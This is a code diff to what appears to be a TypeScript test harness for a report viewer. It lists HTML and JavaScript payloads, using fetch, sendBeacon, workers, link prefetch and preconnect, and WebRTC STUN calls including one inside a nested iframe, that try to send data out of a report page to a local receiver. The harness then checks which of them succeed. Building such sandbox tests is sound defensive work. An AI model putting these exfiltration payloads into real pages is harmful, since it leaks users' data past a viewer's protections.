@@ -1,12 +1,15 @@
 import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
 import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { type AddressInfo, createServer as createTcpServer } from 'node:net';
 
 /** What makes a page a report in the eyes of the viewer. */
 const MARK = '<meta name="generator" content="profiler-report 9.9.9">';
 
-/** Ways by which a page reaches somebody else: `{to}` is their address, `{ws}` the same for a web socket, `{stun}` for WebRTC. */
+/**
+ * Ways by which a page reaches somebody else: `{to}` is their address, `{ws}` the same for a web socket, `{stun}` for WebRTC, `{tcp}` for
+ * connections without a request.
+ */
 const STAYING: Readonly<Record<string, string>> = {
   fetch: `<script>fetch('{to}', { mode: 'no-cors' })</script>`,
   beacon: `<script>navigator.sendBeacon('{to}', 'x')</script>`,
@@ -27,8 +30,18 @@ const STAYING: Readonly<Record<string, string>> = {
   worker: `<script>try { new Worker(URL.createObjectURL(new Blob(["fetch('{to}', { mode: 'no-cors' })"]))) } catch {}</script>`,
   prefetch: `<link rel="prefetch" href="{to}">`,
   preload: `<link rel="preload" as="fetch" href="{to}" crossorigin>`,
-  webrtc: `<script>{ const p = new RTCPeerConnection({ iceServers: [{ urls: '{stun}' }] }); p.createDataChannel('x');
-    p.createOffer().then((o) => p.setLocalDescription(o)) }</script>`,
+  preconnect: `<link rel="preconnect" href="{tcp}">`,
+  webrtc: webRtc('{stun}'),
+};
+
+function webRtc(stun: string): string {
+  return `<script>{ const p = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); p.createDataChannel('x');
+    p.createOffer().then((o) => p.setLocalDescription(o)) }</script>`;
+}
+
+/** What gets out once somebody had the file's own scripts run: nothing takes WebRTC from a frame that the page makes. */
+const NESTED: Readonly<Record<string, string>> = {
+  'webrtc in a frame': `<iframe srcdoc="${webRtc('{nested}')}"></iframe>`,
 };
 
 /** The same by leaving the page, which takes a document for each. */
@@ -48,7 +61,7 @@ const CLICKED: Readonly<Record<string, string>> = {
   'out of all frames': `<p><a href="{to}" target="_top">out of all frames</a></p>`,
 };
 
-export const ATTACKS = [STAYING, LEAVING, CLICKED].flatMap((ways) => Object.keys(ways)).sort();
+export const ATTACKS = [STAYING, NESTED, LEAVING, CLICKED].flatMap((ways) => Object.keys(ways)).sort();
 
 /** What a page could get hold of in the lab. */
 const GRABS: Readonly<Record<string, string>> = {
@@ -92,15 +105,22 @@ export async function attackReceiver() {
     socket.destroy();
   });
   server.listen(0, '127.0.0.1');
-  const udp = createSocket('udp4').on('message', () => told.add('webrtc'));
-  udp.bind(0, '127.0.0.1');
-  await Promise.all([once(server, 'listening'), once(udp, 'listening')]);
+  const udp = ['webrtc', 'webrtc in a frame'].map((name) => createSocket('udp4').on('message', () => told.add(name)));
+  for (const socket of udp) socket.bind(0, '127.0.0.1');
+  const tcp = createTcpServer((socket) => {
+    told.add('preconnect');
+    socket.destroy();
+  }).listen(0, '127.0.0.1');
+  await Promise.all([server, tcp, ...udp].map((one) => once(one, 'listening')));
   const { port } = server.address() as AddressInfo;
+  const [stun, nested] = udp.map((socket) => `stun:127.0.0.1:${socket.address().port}`) as [string, string];
   const body = ([name, text]: readonly [string, string]) =>
     text
       .replaceAll('{to}', `http://127.0.0.1:${port}/${encodeURIComponent(name)}`)
       .replaceAll('{ws}', `ws://127.0.0.1:${port}/${encodeURIComponent(name)}`)
-      .replaceAll('{stun}', `stun:127.0.0.1:${udp.address().port}`);
+      .replaceAll('{tcp}', `http://127.0.0.1:${(tcp.address() as AddressInfo).port}/`)
+      .replaceAll('{nested}', nested)
+      .replaceAll('{stun}', stun);
   const each = (ways: typeof STAYING) => Object.fromEntries(Object.entries(ways).map((way) => [way[0], attackPage(body(way))]));
   return {
     told: () => [...told].sort(),
@@ -109,12 +129,15 @@ export async function attackReceiver() {
     pages: { staying: attackPage(Object.entries(STAYING).map(body).join('\n')), ...each(LEAVING) } as Readonly<
       Record<string, string>
     >,
+    /** The same, of what needs scripts of the page's own. */
+    nested: each(NESTED),
     /** Those that attack when the words of their name are clicked. */
     clicked: each(CLICKED),
     close: async () => {
       server.closeAllConnections();
       server.close();
-      udp.close();
+      tcp.close();
+      for (const socket of udp) socket.close();
     },
   };
 }
